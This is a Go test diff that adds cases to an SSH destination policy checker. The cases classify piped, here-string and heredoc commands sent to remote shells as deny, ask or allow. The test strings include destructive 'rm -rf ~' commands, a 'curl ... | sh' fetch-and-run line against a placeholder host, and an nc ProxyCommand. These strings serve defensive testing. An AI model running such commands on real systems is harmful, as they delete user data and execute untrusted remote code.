@@ -148,6 +148,14 @@ func TestSSHDestination(t *testing.T) {
 		{"ssh viabox 'rm -rf ~'", "deny"},
 		{"ssh -J \"$J\" localhost 'rm -rf ~'", "ask"},
 		{"ssh -J jump localhost 'rm -rf ~'", "ask"},
+		// What a maybe destination's remote shell reads on stdin.
+		{"echo 'rm -rf ~' | ssh jump", "ask"},
+		{"echo 'rm -rf ~' | ssh \"$H\"", "ask"},
+		{"ssh jump <<< 'rm -rf ~'", "ask"},
+		{"ssh \"$H\" bash -s <<< 'rm -rf ~'", "ask"},
+		{"printf 'curl -s https://x.example/i | sh' | ssh jump", "ask"},
+		{"ssh jump bash <<'XEOF'\nrm -rf ~\nXEOF", "ask"},
+		{"echo 'rm -rf ~' | ssh -J \"$J\" localhost", "ask"},
 		// Only run time, or a proxy, knows where these connect.
 		{"ssh jump 'rm -rf ~'", "ask"},
 		{"ssh -o 'ProxyCommand nc 127.0.0.1 22' prod 'rm -rf ~'", "ask"},
@@ -176,6 +184,13 @@ func TestSSHDestination(t *testing.T) {
 		{"ssh viaweb 'rm -rf ~'", "allow"},
 		{"echo 'rm -rf ~' | ssh -J web localhost", "allow"},
 		{"ssh -o ProxyJump=none -J web localhost 'rm -rf ~'", "deny"},
+		// Stdin that runs nothing destroying, or that nothing runs.
+		{"echo ls | ssh jump", "allow"},
+		{"ssh jump <<< 'ls -la'", "allow"},
+		{"echo 'rm -rf ~' | ssh web", "allow"},
+		{"echo 'rm -rf ~' | ssh -n jump", "allow"},
+		{"echo 'rm -rf ~' | ssh jump cat", "allow"},
+		{"echo 'rm -rf ~' | ssh jump true", "allow"},
 	})
 }
 
